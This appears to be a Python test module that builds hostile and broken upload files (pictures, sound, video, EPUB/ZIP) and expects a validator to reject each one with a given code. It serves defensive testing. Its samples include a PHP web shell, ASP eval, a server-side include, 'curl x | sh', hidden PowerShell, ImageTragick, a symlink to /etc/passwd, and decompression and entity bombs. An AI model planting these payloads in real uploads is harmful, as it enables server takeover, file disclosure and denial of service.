"""Hostile and broken files, built in code, each with the code and some words of its rejection."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial, reduce

from tests.support import heif_files, kindle_files, media_files, sample_files
from tests.support.book_files import (
    CBZ,
    FB2,
    FB2_ZIP,
    ODF_NAMESPACES,
    ODT,
    RTF,
    cbz,
    cbz_parts,
    comic_page,
    fb2,
    fb2_binary,
    fb2_zip,
    odf_manifest,
    odt,
    odt_content,
    rtf,
)
from tests.support.media_files import DOCX, EPUB, box, docx, drawn, element, epub, mp4, packed, saved, webm, word

MB = 1024 * 1024
METAFILE = b"\xd7\xcd\xc6\x9a" + bytes(200)
PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0\x64\x86\x03\0" + bytes(12) + b"\xf0\0\x22\0\x0b\x02" + bytes(99)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(99)
ZIP = packed({"inside.txt": b"words " * 50})
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)
PHP = b"<?php system($_GET['c']); ?>"
PAGE = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
SCRIPT = b"<script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff" + bytes(500)
MACROS = b"\x01\x16" + bytes(20) + "_VBA_PROJECT".encode("utf-16-le") + bytes(20)
NOISE = random.Random(1).randbytes(500_000).hex().encode()  # noqa: S311  repeatable, not secret
DISK = bytes(32_768) + b"\x01CD001\x01\x00" + bytes(99)


@dataclass(frozen=True)
class Case:
    """One hostile file. `code` is its rejection code, and `says` must be in the rejection's sentence."""

    media_type: str
    filename: str
    build: Callable[[], bytes]
    code: str
    says: str = ""


def _png(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("image/png", "a.png", build, code, says)


def _jpeg(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("image/jpeg", "a.jpg", build, code, says)


def _gif(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("image/gif", "a.gif", build, code, says)


def _webp(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("image/webp", "a.webp", build, code, says)


def _mp3(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("audio/mpeg", "a.mp3", build, code, says)


def _mp4(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("video/mp4", "a.mp4", build, code, says)


def _webm(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("video/webm", "a.webm", build, code, says)


def _ogg(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case("audio/ogg", "a.ogg", build, code, says)


def _epub(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(EPUB, "a.epub", build, code, says)


def _rtf(body: str, code: str, says: str = "", head: str = "") -> Case:
    return Case(RTF, "a.rtf", lambda: rtf(body, head=head), code, says)


def _odt(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(ODT, "a.odt", build, code, says)


def _odt_with(body: str, code: str, says: str = "", before: str = "") -> Case:
    return _odt(lambda: odt({"content.xml": odt_content(body, before=before)}), code, says)


def _fb2(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(FB2, "a.fb2", build, code, says)


def _fb2_zip(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(FB2_ZIP, "a.fb2.zip", build, code, says)


def _mobi(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(kindle_files.MOBI, "a.mobi", build, code, says)


def _cbz(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(CBZ, "a.cbz", build, code, says)


def _docx(build: Callable[[], bytes], code: str, says: str = "") -> Case:
    return Case(DOCX, "a.docx", build, code, says)


def _png_of(width: int, height: int, content: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", content or zlib.compress(bytes(100))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(media_files.png_chunk(*chunk) for chunk in chunks)


def _zeros(count: int) -> bytes:
    """Return compressed zeros."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MB)) for _ in range(count // MB)) + packer.flush()


def _jpeg_of(width: int, height: int) -> bytes:
    whole = bytearray(saved(drawn(), "JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def _gif_of_frames(count: int) -> bytes:
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\x01\0"
    return b"GIF89a\1\0\1\0\x80\0\0" + bytes(3) + b"\xff\xff\xff" + frame * count + b";"


def _webp_of(width: int, height: int) -> bytes:
    extended = bytes(4) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return media_files.riff(b"WEBP", (b"VP8X", extended), (b"VP8L", b"\x2f" + bytes(20)))


def _replace_one(content: bytes, find: bytes, replace: bytes, *, last: bool = False) -> bytes:
    at = content.rindex(find) if last else content.index(find)
    return content[:at] + replace + content[at + len(find) :]


def _replace_all(content: bytes, find: bytes, replace: bytes) -> bytes:
    assert len(find) == len(replace)
    assert find in content
    return content.replace(find, replace)


def _with_flag(flag: int) -> bytes:
    """Return a book with a general-purpose flag on one part, in both of its headers."""
    content = bytearray(epub())
    local, central = content.index(b"PK\3\4", 30), content.index(b"PK\1\2")
    content[local + 6] |= flag
    at = content.index(b"PK\1\2", central + 1)
    content[at + 8] |= flag
    return bytes(content)


def _false_size() -> bytes:
    """Return a book in which one part declares 100 bytes and unpacks to 50 MB."""
    whole = bytearray(epub({"OEBPS/big.css": bytes(50 * MB)}))
    for signature, offset in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = 0
        while (at := whole.find(signature, at)) >= 0:
            if b"big.css" in whole[at : at + 70]:
                whole[at + offset : at + offset + 4] = struct.pack("<I", 100)
                break
            at += 4
    return bytes(whole)


def _overlapping() -> bytes:
    whole = bytearray(epub())
    first = whole.index(b"PK\1\2")
    second = whole.index(b"PK\1\2", first + 4)
    third = whole.index(b"PK\1\2", second + 4)
    whole[third + 42 : third + 46] = whole[second + 42 : second + 46]
    return bytes(whole)


def _symlink() -> bytes:
    out = io.BytesIO(epub())
    with zipfile.ZipFile(out, "a") as file:
        entry = zipfile.ZipInfo("OEBPS/link")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _with_method(method: int) -> bytes:
    out = io.BytesIO(epub())
    with zipfile.ZipFile(out, "a", method) as file:
        file.writestr("OEBPS/other.css", b"p {}" * 50)
    return out.getvalue()


def _chapter(inside: str) -> bytes:
    return epub({"OEBPS/one.xhtml": media_files.CHAPTER.replace("<p>", inside + "<p>")})


def _document(body: str) -> bytes:
    return docx({"word/document.xml": word(body)})


def _related(kind: str, target: str = "https://example.org/x", *, outside: bool = True) -> bytes:
    return docx({"word/_rels/document.xml.rels": media_files.relations((kind, target, outside))})


PROTECTED: dict[str, dict[str, bytes | str | None]] = {
    "Adobe ADEPT": {
        "META-INF/rights.xml": '<a:rights xmlns:a="http://ns.adobe.com/adept"><a:licenseToken/></a:rights>',
        "META-INF/encryption.xml": '<e><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></e>',
    },
    "Barnes & Noble": {
        "META-INF/rights.xml": '<a:rights xmlns:a="http://ns.adobe.com/adept"><u>https://acs.BarnesAndNoble.com</u></a:rights>'
    },
    "Apple FairPlay": {"META-INF/sinf.xml": "<s/>", "OEBPS/content.opf": b"\x9f\x01encrypted"},
    "Readium LCP": {
        "META-INF/license.lcpl": '{"provider": "https://example.org"}',
        "META-INF/encryption.xml": '<e><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/></e>',
    },
    "Kobo": {"rights.xml": "<kdrm/>"},
    "Sony Marlin": {
        "META-INF/encryption.xml": '<e xmlns="http://marlin-drm.com/epub"><EncryptionMethod Algorithm="x"/></e>'
    },
    "of an unknown kind": {"META-INF/rights.xml": "<r/>"},
}
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'

CASES: dict[str, Case] = {
    # ---- pictures ----
    "PNG of 400 megapixels": _png(partial(_png_of, 20_000, 20_000), "too_many_pixels", "20,000"),
    "PNG of 4 gigapixels": _png(partial(_png_of, 65_500, 65_500), "too_many_pixels"),
    "PNG whose comment unpacks to 300 MB": _png(
        lambda: media_files.png_with((b"zTXt", b"Comment\0\0" + _zeros(300 * MB))), "bomb", "metadata"
    ),
    "PNG whose translated comment unpacks to 300 MB": _png(
        lambda: media_files.png_with((b"iTXt", b"Comment\0\1\0en\0x\0" + _zeros(300 * MB))), "bomb", "metadata"
    ),
    "PNG whose profile unpacks to 300 MB": _png(
        lambda: media_files.png_with((b"iCCP", b"Profile\0\0" + _zeros(300 * MB))), "bomb", "metadata"
    ),
    "PNG of 100,001 parts": _png(lambda: media_files.png_with(*[(b"tEXt", b"a\0b")] * 100_001), "bomb", "parts"),
    "PNG cut off": _png(lambda: saved(drawn(), "PNG")[:-30], "malformed", "cut off"),
    "PNG with a wrong checksum": _png(lambda: _replace_one(saved(drawn(), "PNG"), b"IDATx", b"IDATy"), "malformed"),
    "PNG without a header": _png(lambda: b"\x89PNG\r\n\x1a\n" + media_files.png_chunk(b"IEND", b""), "malformed"),
    "PNG without pixels": _png(
        lambda: (
            b"\x89PNG\r\n\x1a\n"
            + media_files.png_chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))
            + media_files.png_chunk(b"IEND", b"")
        ),
        "malformed",
        "decoding",
    ),
    "PNG with PHP in a comment": _png(
        lambda: media_files.png_with((b"tEXt", b"Comment\0" + PHP)), "pattern:php_in_media", "PHP"
    ),
    "PNG with HTML in a comment": _png(lambda: media_files.png_with((b"tEXt", b"C\0" + PAGE)), "pattern:page_in_media"),
    "PNG with a program behind it": _png(lambda: saved(drawn(), "PNG") + PROGRAM, "pattern:windows_program"),
    "PNG with a ZIP behind it": _png(lambda: saved(drawn(), "PNG") + ZIP, "type_mismatch", "a ZIP archive at its end"),
    "PNG with a ZIP inside": _png(lambda: media_files.png_with((b"teSt", ZIP + bytes(70_000))), "pattern:zip_archive"),
    "PNG with a RAR behind it": _png(lambda: saved(drawn(), "PNG") + RAR, "pattern:rar_archive"),
    "PNG with EICAR in a comment": _png(
        lambda: media_files.png_with((b"tEXt", b"C\0" + sample_files.EICAR)), "pattern:eicar"
    ),
    "PNG named as JPEG": _jpeg(lambda: saved(drawn(), "PNG"), "type_mismatch", "it is a PNG picture"),
    "JPEG of 4 gigapixels": _jpeg(partial(_jpeg_of, 65_500, 65_500), "too_many_pixels"),
    "JPEG cut off": _jpeg(lambda: saved(drawn(), "JPEG")[:-40], "malformed"),
    "JPEG without a picture": _jpeg(lambda: sample_files.JPEG, "malformed"),
    "JPEG with PHP in a comment": _jpeg(lambda: media_files.jpeg_with_comment(PHP), "pattern:php_in_media"),
    "JPEG with short PHP in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b"<?=`$_GET[1]`?>"), "pattern:php_in_media"
    ),
    "JPEG with JSP in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b'<%@ page import="java.io.*" %>'), "pattern:asp_in_media"
    ),
    "JPEG with ASP in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b'<%eval request("x")%>'), "pattern:asp_in_media"
    ),
    "JPEG with a script in a comment": _jpeg(lambda: media_files.jpeg_with_comment(SCRIPT), "pattern:script_in_media"),
    "JPEG that is also JavaScript": _jpeg(
        lambda: media_files.jpeg_with_comment(b"*/=1;location='javascript:alert(1)'/*"), "pattern:script_in_media"
    ),
    "JPEG with an include in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b'<!--#exec cmd="id" -->'), "pattern:server_side_include"
    ),
    "JPEG with a shell script in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b"#!/bin/bash\ncurl x | sh\n"), "pattern:shell_script_in_media"
    ),
    "JPEG with PowerShell in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b"powershell -w hidden -enc " + b"QUJD" * 20),
        "pattern:powershell_in_media",
    ),
    "JPEG with drawing instructions": _jpeg(
        lambda: media_files.jpeg_with_comment(b"push graphic-context\nfill 'url(https://x|ls)'"),
        "pattern:image_tragick",
    ),
    "JPEG with SVG in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b'<svg width=9 xmlns="http://www.w3.org/2000/svg">'),
        "pattern:svg_in_media",
    ),
    "JPEG with an HTA in a comment": _jpeg(
        lambda: media_files.jpeg_with_comment(b"<hta:application id=x>"), "pattern:html_application"
    ),
    "JPEG with a PDF behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + sample_files.one_page(), "type_mismatch", "a PDF behind"
    ),
    "JPEG with a PDF far behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"x" * 9_000 + sample_files.one_page(), "pattern:pdf_in_media"
    ),
    "JPEG with 7-Zip behind it": _jpeg(lambda: saved(drawn(), "JPEG") + SEVEN_ZIP, "pattern:seven_zip_archive"),
    "JPEG with a cabinet behind it": _jpeg(
        lambda: (
            saved(drawn(), "JPEG") + b"MSCF" + bytes(4) + b"\x99" * 4 + bytes(4) + b"\x2c\0\0\0" + bytes(4) + b"\3\1"
        ),
        "pattern:cabinet_archive",
    ),
    "JPEG with a macOS installer behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"xar!\0\x1c\0\1" + bytes(40), "pattern:xar_archive"
    ),
    "JPEG with a Java class behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"\xca\xfe\xba\xbe\0\0\0\x34" + b"java/lang/Object", "pattern:java_program"
    ),
    "JPEG with an Android program behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"dex\n035\0" + b"\1" * 32 + b"\x70\0\0\0\x78\x56\x34\x12",
        "pattern:android_program",
    ),
    "JPEG with WebAssembly behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"\0asm\1\0\0\0\1\4\1\x60\0\0", "pattern:web_assembly"
    ),
    "JPEG with a packed Python program behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"MEI\x0c\x0b\x0a\x0b\x0e" + bytes(80), "pattern:compiled_python"
    ),
    "JPEG with an old Office document behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + OLE, "pattern:old_office_document"
    ),
    "JPEG with the header of a program behind it": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"MZ\x90\0" + bytes(74) + b"This program cannot be run in DOS mode",
        "pattern:dos_program",
    ),
    "GIF of 200,000 frames": _gif(partial(_gif_of_frames, 200_000), "bomb", "frames"),
    "GIF of 5,001 frames": _gif(partial(_gif_of_frames, 5_001), "bomb", "frames"),
    "GIF of 4 gigapixels": _gif(lambda: b"GIF89a\xff\xff\xff\xff\0\0\0;", "too_many_pixels"),
    "GIF cut off": _gif(lambda: media_files.animation("GIF")[:-9], "malformed"),
    "GIF that is also JavaScript": _gif(
        lambda: b"GIF89a/*" + media_files.animation("GIF")[8:] + b"*/=1;document.write('<script>x</script>')",
        "pattern:script_in_media",
    ),
    "GIF with a script in a comment": _gif(lambda: saved(drawn("P"), "GIF", comment=SCRIPT), "pattern:script_in_media"),
    "WebP of 268 megapixels": _webp(partial(_webp_of, 16_384, 16_384), "too_many_pixels"),
    "WebP cut off": _webp(lambda: saved(drawn(), "WEBP")[:-9], "malformed"),
    "WebP without pixels": _webp(lambda: media_files.riff(b"WEBP", (b"EXIF", b"x" * 20)), "malformed"),
    "WebP with PHP in a chunk": _webp(
        lambda: media_files.riff(b"WEBP", (b"VP8L", saved(drawn(), "WEBP", lossless=True)[20:]), (b"XMP ", PHP)),
        "pattern:php_in_media",
    ),
    "HEIC with a picture outside the file": Case(
        "image/heic", "a.heic", lambda: heif_files.heif(place=(40, 9_999)), "malformed", "not complete"
    ),
    "HEIC of 100 megapixels": Case(
        "image/heic", "a.heic", lambda: heif_files.heif(size=(10_000, 10_000)), "too_many_pixels"
    ),
    "AVIF of 40 megapixels": Case(
        "image/avif",
        "a.avif",
        lambda: heif_files.heif(brand=b"avif", codec=b"av01", compatible=b"mif1avif", size=(8_000, 5_000)),
        "too_many_pixels",
        "36 megapixels",
    ),
    "HEIC with an unknown item": Case(
        "image/heic", "a.heic", lambda: heif_files.heif(others=(b"rude",)), "type_mismatch", "not a picture of its type"
    ),
    "HEIC with the brand of AVIF": Case(
        "image/heic",
        "a.heic",
        lambda: heif_files.heif(brand=b"mif1", codec=b"av01", compatible=b"avif"),
        "type_mismatch",
    ),
    "HEIC cut off": Case("image/heic", "a.heic", lambda: heif_files.heif()[:-9], "malformed", "not complete"),
    "HEIC with bytes behind it": Case("image/heic", "a.heic", lambda: heif_files.heif() + b"\1" * 20, "malformed"),
    "HEIC without a list of items": Case(
        "image/heic", "a.heic", lambda: box(b"ftyp", b"heic" + bytes(4)) + box(b"meta", bytes(4)), "malformed"
    ),
    "AVIF with HEVC in it": Case(
        "image/avif",
        "a.avif",
        lambda: heif_files.heif(brand=b"avif", codec=b"hvc1", compatible=b"avif"),
        "type_mismatch",
    ),
    "SVG named as PNG": _png(lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "type_mismatch", "an SVG picture"),
    "BMP named as PNG": _png(lambda: saved(drawn(), "BMP"), "type_mismatch", "a BMP picture"),
    "TIFF named as JPEG": _jpeg(lambda: saved(drawn(), "TIFF"), "type_mismatch", "a TIFF picture"),
    # ---- sound ----
    "MP3 whose tag unpacks to 300 MB": _mp3(
        lambda: (
            media_files.id3(media_files.id3_frame(b"TXXX", struct.pack(">I", 300 * MB) + _zeros(300 * MB), b"\0\x80"))
            + media_files.mp3()
        ),
        "bomb",
        "unpack to more",
    ),
    "MP3 whose newer tag unpacks to 300 MB": _mp3(
        lambda: (
            media_files.id3(
                media_files.id3_frame(b"TXXX", media_files.synchsafe(9) + _zeros(300 * MB), b"\0\x09", version=4),
                version=4,
            )
            + media_files.mp3()
        ),
        "bomb",
    ),
    "MP3 whose tag is longer than the file": _mp3(
        lambda: b"ID3\3\0\0\x7f\x7f\x7f\x7f" + media_files.mp3(), "malformed", "tag"
    ),
    "MP3 with a tag and no sound": _mp3(
        lambda: media_files.id3(media_files.id3_frame(b"TIT2", b"\0x")), "malformed", "no MP3 sound"
    ),
    "MP3 with five tags": _mp3(
        lambda: media_files.id3(media_files.id3_frame(b"TIT2", b"\0x")) * 5 + media_files.mp3(), "malformed"
    ),
    "MP3 with HTML behind it": _mp3(lambda: media_files.mp3() + PAGE * 300, "malformed", "something else"),
    "MP3 with HTML in its tag": _mp3(
        lambda: media_files.id3(media_files.id3_frame(b"COMM", PAGE)) + media_files.mp3(), "pattern:page_in_media"
    ),
    "MP3 with a program in its tag": _mp3(
        lambda: media_files.id3(media_files.id3_frame(b"GEOB", PROGRAM)) + media_files.mp3(), "pattern:windows_program"
    ),
    "MP3 with a ZIP behind it": _mp3(lambda: media_files.mp3() + ZIP, "type_mismatch", "ZIP"),
    "MP3 of noise": _mp3(lambda: b"\xff\xfb\x90\x00" + bytes(range(256)) * 40, "malformed"),
    "MP3 of layer II": _mp3(lambda: b"\xff\xfd\x80\x00" + bytes(400), "type_mismatch", "layer I or II"),
    "AAC that ends in noise": Case("audio/aac", "a.aac", lambda: media_files.aac() + b"noise" * 20, "malformed"),
    "AAC of two frames": Case("audio/aac", "a.aac", lambda: media_files.aac(2), "malformed"),
    "Theora video named as OGG": _ogg(
        lambda: media_files.ogg_stream(b"\x80theora" + bytes(40), 1_000), "codec_not_allowed", "Theora video"
    ),
    "OGG of an unknown codec": _ogg(lambda: media_files.ogg_stream(b"whatever", 1_000), "codec_not_allowed"),
    "OGG with a wrong checksum": _ogg(
        lambda: _replace_one(media_files.ogg_stream(media_files.OPUS_HEAD, 48_312), b"tags", b"tagz"),
        "malformed",
        "wrong checksum",
    ),
    "OGG cut off": _ogg(
        lambda: media_files.ogg_stream(media_files.OPUS_HEAD, 48_312)[:-3], "malformed", "not complete"
    ),
    "OGG with bytes behind it": _ogg(
        lambda: media_files.ogg_stream(media_files.OPUS_HEAD, 48_312) + b"more", "malformed"
    ),
    "OGG with two streams at once": _ogg(
        lambda: (
            media_files.ogg_page(1, 0, 0, 2, media_files.OPUS_HEAD)
            + media_files.ogg_page(2, 0, 0, 2, media_files.VORBIS_HEAD)
        ),
        "malformed",
    ),
    "OGG without sound": _ogg(lambda: media_files.ogg_page(1, 0, 0, 2, media_files.OPUS_HEAD), "malformed", "no sound"),
    "FLAC cut off": Case("audio/flac", "a.flac", lambda: media_files.flac()[:-4], "malformed", "cut off"),
    "FLAC with bytes behind it": Case("audio/flac", "a.flac", lambda: media_files.flac() + b"more", "malformed"),
    "FLAC without sound": Case(
        "audio/flac", "a.flac", lambda: b"fLaC\x80\0\0\x22" + media_files.flac_info(9), "malformed", "no sound"
    ),
    "FLAC whose metadata is longer than the file": Case(
        "audio/flac", "a.flac", lambda: media_files.flac(more=b"\x84\xff\xff\xff"), "malformed"
    ),
    "WAV cut off": Case("audio/wav", "a.wav", lambda: media_files.wav()[:-99], "malformed", "not complete"),
    "WAV with bytes behind it": Case(
        "audio/wav", "a.wav", lambda: media_files.wav() + b"more" * 9, "malformed", "follow its end"
    ),
    "WAV of an unknown codec": Case(
        "audio/wav",
        "a.wav",
        lambda: media_files.riff(b"WAVE", media_files.wav_format(0x9999), (b"data", media_files.samples())),
        "codec_not_allowed",
    ),
    "WAV without sound": Case(
        "audio/wav", "a.wav", lambda: media_files.riff(b"WAVE", media_files.wav_format()), "malformed"
    ),
    "WAV with PHP in a list": Case(
        "audio/wav",
        "a.wav",
        lambda: media_files.riff(b"WAVE", media_files.wav_format(), (b"LIST", PHP), (b"data", media_files.samples())),
        "pattern:php_in_media",
    ),
    "WAV that is an AVI": Case(
        "audio/wav", "a.wav", lambda: media_files.riff(b"AVI ", (b"LIST", b"x" * 9)), "type_mismatch", "AVI"
    ),
    # ---- video ----
    "MP4 cut off": _mp4(lambda: mp4(media_files.VIDEO)[:-9], "malformed", "not complete"),
    "MP4 with bytes behind it": _mp4(lambda: mp4(media_files.VIDEO) + b"\xde\xad\xbe\xef" * 9, "malformed"),
    "MP4 with a ZIP in its free space": _mp4(
        lambda: mp4(media_files.VIDEO, extra=box(b"free", ZIP + bytes(70_000))), "pattern:zip_archive"
    ),
    "MP4 with a program in its free space": _mp4(
        lambda: mp4(media_files.VIDEO, extra=box(b"free", ELF)), "pattern:linux_program"
    ),
    "MP4 without a table of contents": _mp4(
        lambda: box(b"ftyp", b"isom" + bytes(4)) + box(b"mdat", bytes(9)), "malformed"
    ),
    "MP4 without content": _mp4(
        lambda: _replace_all(mp4(media_files.VIDEO), b"mdat", b"free"), "malformed", "no content"
    ),
    "MP4 with copy protection": _mp4(lambda: mp4(media_files.track(b"vide", b"encv")), "encrypted"),
    "MP4 with keys of copy protection": _mp4(
        lambda: mp4(media_files.VIDEO, extra=box(b"pssh", bytes(30))), "encrypted"
    ),
    "MP4 of an unknown codec": _mp4(lambda: mp4(media_files.track(b"vide", b"rude")), "codec_not_allowed", "rude"),
    "MP4 with programs in a track": _mp4(
        lambda: mp4(media_files.VIDEO, media_files.track(b"data", b"exec")), "codec_not_allowed"
    ),
    "MP4 with content in another file": _mp4(
        lambda: mp4(media_files.track(b"vide", b"avc1", reference=0)), "external_content", "another file"
    ),
    "MP4 of 30 hours": _mp4(lambda: mp4(media_files.VIDEO, duration=30 * 3_600_000), "too_long"),
    "MP4 with 65 tracks": _mp4(lambda: mp4(media_files.VIDEO, *[media_files.SOUND] * 64), "bomb", "tracks"),
    "MP4 of 30,000 pixels width": _mp4(
        lambda: mp4(media_files.track(b"vide", b"avc1", size=(30_000, 20))), "malformed", "30,000"
    ),
    "MP4 with 250,000 boxes": _mp4(lambda: mp4(media_files.VIDEO, extra=box(b"free") * 250_000), "bomb", "boxes"),
    "MP4 nested too deep": _mp4(
        lambda: reduce(lambda inner, _: box(b"moov", inner), range(200), mp4(media_files.VIDEO)),
        "type_mismatch",
    ),
    "MP4 nested too deep behind its beginning": _mp4(
        lambda: box(b"ftyp", b"isom" + bytes(4)) + reduce(lambda inner, _: box(b"trak", inner), range(200), b""),
        "bomb",
        "nest",
    ),
    "MP4 with subtitles alone": _mp4(
        lambda: mp4(media_files.track(b"text", b"tx3g")), "malformed", "neither sound nor"
    ),
    "MP4 with other bytes behind zeros": _mp4(
        lambda: mp4(media_files.VIDEO) + bytes(3_000) + b"MZ", "malformed", "belong to no part"
    ),
    "video named as sound": Case(
        "audio/mp4", "a.m4a", lambda: mp4(media_files.VIDEO, media_files.SOUND), "type_mismatch", ".mp4"
    ),
    "QuickTime named as MP4": _mp4(lambda: mp4(media_files.VIDEO, brand=b"qt  "), "type_mismatch", "QuickTime"),
    "Matroska named as WebM": _webm(lambda: webm(doctype=b"matroska"), "type_mismatch", "Matroska"),
    "WebM with H.264": _webm(lambda: webm((b"V_MPEG4/ISO/AVC",)), "codec_not_allowed", "V_MPEG4"),
    "WebM with copy protection": _webm(
        lambda: webm(in_track=element(0x6D80, element(0x6240, element(0x5035, b"x")))), "encrypted"
    ),
    "WebM with attachments": _webm(lambda: webm(extra=element(0x1941A469, b"file")), "foreign_content", "attached"),
    "WebM with a program in its free space": _webm(
        lambda: webm(extra=element(0xEC, PROGRAM)), "pattern:windows_program"
    ),
    "WebM cut off": _webm(lambda: webm()[:-3], "malformed", "not complete"),
    "WebM with bytes behind it": _webm(lambda: webm() + b"\x99\x81x", "malformed"),
    "WebM with subtitles alone": _webm(lambda: webm((b"S_TEXT/WEBVTT",)), "malformed", "neither sound nor"),
    "MP3 named as FLAC": Case(
        "audio/flac", "a.flac", lambda: media_files.id3() + media_files.mp3(), "malformed", "no FLAC recording"
    ),
    "WebM of 300 hours": _webm(lambda: webm(duration=1.1e9), "too_long"),
    "WebM without a duration": _webm(lambda: webm(duration=float("nan")), "malformed"),
    # ---- containers ----
    "ZIP named as EPUB": _epub(lambda: ZIP, "malformed", "container.xml"),
    "EPUB with 600 nested elements": _epub(
        lambda: epub({"OEBPS/one.xhtml": "<html><body>" + "<div>" * 600 + "</div>" * 600}), "bomb", "512 elements"
    ),
    "EPUB with another mimetype": _epub(lambda: epub({"mimetype": "application/zip"}), "type_mismatch"),
    "EPUB without a table of contents": _epub(lambda: epub({"OEBPS/content.opf": None}), "malformed", "content.opf"),
    "EPUB without text": _epub(lambda: epub({"OEBPS/one.xhtml": None}), "malformed", "text is missing"),
    "EPUB with a script": _epub(lambda: _chapter("<script>x()</script>"), "active_content", "scripts"),
    "EPUB with an event handler": _epub(lambda: _chapter('<p onclick="x()">a</p>'), "active_content"),
    "EPUB with a javascript link": _epub(lambda: _chapter('<a href="javascript:x()">a</a>'), "active_content"),
    "EPUB with a script file": _epub(lambda: epub({"OEBPS/a.js": "x()"}), "active_content"),
    "EPUB with a frame": _epub(lambda: _chapter('<iframe src="https://example.org"/>'), "active_content", "frames"),
    "EPUB with a script in an SVG": _epub(
        lambda: epub({"OEBPS/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'}),
        "active_content",
    ),
    "EPUB with copy protection": _epub(
        lambda: epub(
            {
                "META-INF/encryption.xml": '<e><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></e>'
            }
        ),
        "encrypted",
        "DRM",
    ),
    **{
        f"EPUB with protection by {scheme}": _epub(lambda parts=parts: epub(parts), "encrypted", f"DRM: {scheme}")  # type: ignore[misc]
        for scheme, parts in PROTECTED.items()
    },
    "EPUB with a book in it": _epub(lambda: epub({"OEBPS/inner.epub": epub()}), "foreign_content", "an archive"),
    "EPUB with a program in it": _epub(lambda: epub({"OEBPS/run.png": PROGRAM}), "foreign_content", "a program"),
    "EPUB with a program inside a picture": _epub(
        lambda: epub({"OEBPS/run.png": sample_files.PNG + PROGRAM}), "pattern:windows_program"
    ),
    "EPUB with EICAR deep inside": _epub(
        lambda: epub({"OEBPS/deep/er/notes.txt": NOISE + sample_files.EICAR}),
        "pattern:eicar",
        "EICAR",
    ),
    "EPUB with a Windows help file": _epub(
        lambda: epub({"OEBPS/help.bin": b"ITSF\3\0\0\0\x60\0\0\0" + bytes(90)}), "pattern:compiled_help"
    ),
    "EPUB with a disk image": _epub(lambda: epub({"OEBPS/disk.bin": DISK}), "pattern:disk_image"),
    "EPUB with a shortcut": _epub(
        lambda: epub({"OEBPS/a.bin": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80)}),
        "pattern:script_for_windows",
    ),
    "EPUB with expanding entities": _epub(
        lambda: epub({"META-INF/container.xml": LAUGHS + media_files.CONTAINER}), "bomb", "entities"
    ),
    "EPUB with 5,000 nested elements": _epub(
        lambda: epub({"OEBPS/content.opf": "<a>" * 5_000 + "</a>" * 5_000}), "bomb", "nests"
    ),
    "EPUB whose table of contents is not XML": _epub(
        lambda: epub({"OEBPS/content.opf": "<package"}), "malformed", "XML"
    ),
    "ZIP with a part of 300 MB": _epub(lambda: epub({"OEBPS/big.css": bytes(300 * MB)}), "bomb", "times its size"),
    "ZIP with 210 MB in all parts": _epub(
        lambda: packed(
            [*media_files.epub_parts().items(), *((f"OEBPS/{n}.bin", bytes(60 * MB)) for n in range(4))],
            stored="mimetype",
        ),
        "bomb",
    ),
